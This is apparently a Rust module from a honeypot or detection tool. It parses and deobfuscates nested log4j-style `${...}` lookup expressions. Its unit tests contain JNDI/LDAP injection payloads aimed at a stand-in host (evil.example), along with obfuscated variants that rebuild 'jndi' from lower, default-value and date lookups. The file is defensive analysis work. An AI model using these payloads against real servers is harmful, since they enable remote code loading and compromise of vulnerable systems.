//! Recursive-descent parser for nested `${name:argument}` lookup expressions.
//!
//! The input is entirely attacker-controlled, so parsing is total: malformed
//! fragments degrade to literal text, nesting depth and input length are
//! hard-capped, and resolution is best-effort (unresolvable lookups are
//! re-emitted in their original syntax, never dropped).

/// Maximum lookup nesting depth. Beyond it, `${` is plain text.
pub const MAX_DEPTH: usize = 20;

/// Maximum input length (chars). Oversized candidates are truncated before
/// any work is done and the result is flagged.
pub const MAX_INPUT_LEN: usize = 8192;

/// One node of a parsed lookup expression.
///
/// The name position of a lookup may itself contain nested lookups (that is
/// the obfuscation mechanism), so `name` is an expression rather than a
/// plain string; `arg` is `None` when the body carried no top-level colon.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ExprNode {
    Literal(String),
    Concat(Vec<ExprNode>),
    Lookup {
        name: Box<ExprNode>,
        arg: Option<Box<ExprNode>>,
    },
}

/// Result of deobfuscating one candidate expression.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DeobfuscationResult {
    /// The raw candidate as it appeared in the request.
    pub original: String,
    /// Best-effort fully-substituted rendering. Unresolved lookups are
    /// re-emitted as `${...}` with their interior resolved.
    pub flattened: String,
    /// The parsed expression tree.
    pub tree: ExprNode,
    /// Input exceeded [`MAX_INPUT_LEN`] and was truncated before parsing.
    pub truncated: bool,
}

/// Parse and deobfuscate a candidate expression. Total: never fails.
#[must_use]
pub fn parse(raw: &str) -> DeobfuscationResult {
    let mut chars: Vec<char> = raw.chars().take(MAX_INPUT_LEN + 1).collect();
    let truncated = chars.len() > MAX_INPUT_LEN;
    chars.truncate(MAX_INPUT_LEN);

    let mut pos = 0;
    let nodes = parse_seq(&chars, &mut pos, 0, false);
    let tree = concat(nodes);
    let flattened = flatten(&tree);

    DeobfuscationResult {
        original: raw.to_string(),
        flattened,
        tree,
        truncated,
    }
}

/// Render a tree back to its flattened form, resolving lookups
/// innermost-first (the attacker's intended evaluation order).
#[must_use]
pub fn flatten(node: &ExprNode) -> String {
    match node {
        ExprNode::Literal(s) => s.clone(),
        ExprNode::Concat(nodes) => nodes.iter().map(flatten).collect(),
        ExprNode::Lookup { name, arg } => {
            let name = flatten(name);
            let Some(arg) = arg else {
                // No colon in the body: nothing to resolve against.
                return format!("${{{name}}}");
            };
            let arg = flatten(arg);
            if let Some(resolved) = apply_lookup(&name, &arg) {
                return resolved;
            }
            let body = format!("{name}:{arg}");
            // log4j-style default value: ${x:-y} yields "y" when no lookup
            // function produced a result.
            match body.find(":-") {
                Some(idx) => body[idx + 2..].to_string(),
                None => format!("${{{body}}}"),
            }
        }
    }
}

fn parse_seq(chars: &[char], pos: &mut usize, depth: usize, stop_on_brace: bool) -> Vec<ExprNode> {
    let mut nodes = Vec::new();
    let mut lit = String::new();

    while *pos < chars.len() {
        let c = chars[*pos];
        if c == '}' && stop_on_brace {
            break; // caller consumes the terminator
        }
        if c == '$' && chars.get(*pos + 1) == Some(&'{') && depth < MAX_DEPTH {
            *pos += 2;
            let body = parse_seq(chars, pos, depth + 1, true);
            flush(&mut lit, &mut nodes);
            if chars.get(*pos) == Some(&'}') {
                *pos += 1;
                nodes.push(make_lookup(body));
            } else {
                // Unterminated lookup: the fragment stays literal, unresolved.
                nodes.push(ExprNode::Literal("${".to_string()));
                nodes.extend(body);
            }
            continue;
        }
        lit.push(c);
        *pos += 1;
    }

    flush(&mut lit, &mut nodes);
    nodes
}

fn flush(lit: &mut String, nodes: &mut Vec<ExprNode>) {
    if !lit.is_empty() {
        nodes.push(ExprNode::Literal(std::mem::take(lit)));
    }
}

/// Split a lookup body at the first top-level colon. A colon inside an
/// earlier nested lookup does not count; one inside an earlier literal does.
fn make_lookup(body: Vec<ExprNode>) -> ExprNode {
    for (i, node) in body.iter().enumerate() {
        let ExprNode::Literal(s) = node else {
            continue;
        };
        let Some(idx) = s.find(':') else {
            continue;
        };

        let mut name_nodes: Vec<ExprNode> = body[..i].to_vec();
        if idx > 0 {
            name_nodes.push(ExprNode::Literal(s[..idx].to_string()));
        }
        let mut arg_nodes = Vec::new();
        if idx + 1 < s.len() {
            arg_nodes.push(ExprNode::Literal(s[idx + 1..].to_string()));
        }
        arg_nodes.extend(body[i + 1..].iter().cloned());

        return ExprNode::Lookup {
            name: Box::new(concat(name_nodes)),
            arg: Some(Box::new(concat(arg_nodes))),
        };
    }

    ExprNode::Lookup {
        name: Box::new(concat(body)),
        arg: None,
    }
}

fn concat(mut nodes: Vec<ExprNode>) -> ExprNode {
    match nodes.len() {
        0 => ExprNode::Literal(String::new()),
        1 => nodes.pop().unwrap_or_else(|| ExprNode::Literal(String::new())),
        _ => ExprNode::Concat(nodes),
    }
}

/// Fixed table of lookup functions. Environment/system accessors are
/// deliberately absent: a decoy must never substitute its own process
/// state into attacker output. Names are matched case-insensitively,
/// matching the interpolator the attackers target.
fn apply_lookup(name: &str, arg: &str) -> Option<String> {
    match name.to_ascii_lowercase().as_str() {
        "lower" | "lowercase" => Some(arg.to_lowercase()),
        "upper" | "uppercase" => Some(arg.to_uppercase()),
        "date" => date_literal(arg),
        _ => None,
    }
}

/// Date-format abuse emits quoted sections verbatim (`${date:'j'}` is `j`).
/// Patterns without quoted text stay unresolved.
fn date_literal(pattern: &str) -> Option<String> {
    if !pattern.contains('\'') {
        return None;
    }
    let mut out = String::new();
    let mut in_quote = false;
    for c in pattern.chars() {
        if c == '\'' {
            in_quote = !in_quote;
        } else if in_quote {
            out.push(c);
        }
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_passes_through() {
        let r = parse("GET /index.html HTTP/1.1");
        assert_eq!(r.flattened, "GET /index.html HTTP/1.1");
        assert!(!r.truncated);
    }

    #[test]
    fn unknown_function_passes_through() {
        assert_eq!(parse("${foo:bar}").flattened, "${foo:bar}");
    }

    #[test]
    fn jndi_expression_passes_through() {
        let r = parse("${jndi:ldap://evil.example/a}");
        assert_eq!(r.flattened, "${jndi:ldap://evil.example/a}");
    }

    #[test]
    fn case_lookups_resolve() {
        assert_eq!(parse("${lower:ABC}").flattened, "abc");
        assert_eq!(parse("${upper:abc}").flattened, "ABC");
        assert_eq!(parse("${LoWeR:J}").flattened, "j");
    }

    #[test]
    fn nested_case_lookups_reassemble_scheme() {
        let r = parse("${${lower:j}${lower:n}di:${lower:l}dap://evil.example/a}");
        assert_eq!(r.flattened, "${jndi:ldap://evil.example/a}");
    }

    #[test]
    fn innermost_resolves_first() {
        assert_eq!(parse("${upper:${lower:A}}").flattened, "A");
    }

    #[test]
    fn default_value_operator() {
        assert_eq!(parse("${::-j}ndi").flattened, "jndi");
        assert_eq!(parse("${env:NOTHING:-x}").flattened, "x");
        assert_eq!(
            parse("${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}").flattened,
            "${jndi:ldap://evil.example/a}"
        );
    }

    #[test]
    fn env_lookup_never_reads_process_state() {
        // Even for variables that certainly exist, nothing leaks.
        let r = parse("${env:PATH}");
        assert_eq!(r.flattened, "${env:PATH}");
    }

    #[test]
    fn date_quoted_sections_are_literal() {
        assert_eq!(parse("${date:'j'}ndi").flattened, "jndi");
        assert_eq!(parse("${date:'jndi'}").flattened, "jndi");
        assert_eq!(parse("${date:yyyy}").flattened, "${date:yyyy}");
    }

    #[test]
    fn unterminated_lookup_stays_literal() {
        assert_eq!(parse("${jndi:ldap://x").flattened, "${jndi:ldap://x");
        assert_eq!(parse("${").flattened, "${");
        assert_eq!(parse("${lower:A").flattened, "${lower:A");
    }

    #[test]
    fn body_without_colon_passes_through() {
        assert_eq!(parse("${hostName}").flattened, "${hostName}");
    }

    #[test]
    fn deep_nesting_terminates() {
        let mut s = String::new();
        for _ in 0..1200 {
            s.push_str("${");
        }
        let r = parse(&s);
        // Total and bounded; everything past the depth cap is literal.
        assert!(r.flattened.contains("${"));
    }

    #[test]
    fn depth_cap_degrades_to_literal() {
        let mut s = "x".to_string();
        for _ in 0..(MAX_DEPTH + 5) {
            s = format!("${{lower:{s}}}");
        }
        let r = parse(&s);
        // Inner levels beyond the cap are no longer resolved.
        assert!(r.flattened.contains("${"));
    }

    #[test]
    fn oversized_input_truncated_and_flagged() {
        let s = "a".repeat(MAX_INPUT_LEN + 100);
        let r = parse(&s);
        assert!(r.truncated);
        assert_eq!(r.flattened.chars().count(), MAX_INPUT_LEN);
        assert_eq!(r.original.len(), s.len());
    }

    #[test]
    fn tree_shape_for_simple_lookup() {
        let r = parse("${lower:J}");
        assert_eq!(
            r.tree,
            ExprNode::Lookup {
                name: Box::new(ExprNode::Literal("lower".to_string())),
                arg: Some(Box::new(ExprNode::Literal("J".to_string()))),
            }
        );
    }

    #[test]
    fn surrounding_text_preserved() {
        let r = parse("a ${lower:B} c");
        assert_eq!(r.flattened, "a b c");
    }
}
